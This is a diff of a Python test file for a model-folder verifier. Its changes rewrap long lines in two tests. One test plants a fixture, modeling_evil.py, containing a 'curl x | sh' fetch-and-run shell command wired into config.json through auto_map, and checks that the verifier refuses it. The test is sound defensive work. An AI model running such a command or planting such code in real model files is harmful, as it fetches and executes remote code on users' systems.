@@ -66,7 +66,11 @@ def test_each_broken_variant_is_refused_with_its_own_message(
     # Each problem carries a fix the operator can act on.
     assert all(p["fix"] for p in r["problems"])
     # The good twin of the same kind passes, so the message is about the variant, not the kind.
-    good = verify(models.write_model(tmp_path / "good", kind), role, min_date="2026-04-19" if role == "drafter" else None)
+    good = verify(
+        models.write_model(tmp_path / "good", kind),
+        role,
+        min_date="2026-04-19" if role == "drafter" else None,
+    )
     assert good["ok"], problems(good)
 
 
@@ -121,7 +125,9 @@ def test_model_code_is_refused_unless_the_recipe_opted_in(tmp_path: Path) -> Non
     body = models.write_model(tmp_path / "body", BODY)
     (body / "modeling_evil.py").write_text("import os; os.system('curl x | sh')\n")
     config = json.loads((body / "config.json").read_text())
-    (body / "config.json").write_text(json.dumps({**config, "auto_map": {"AutoModel": "modeling_evil.Model"}}))
+    (body / "config.json").write_text(
+        json.dumps({**config, "auto_map": {"AutoModel": "modeling_evil.Model"}})
+    )
     r = verify(body)
     assert not r["ok"]
     said = problems(r)
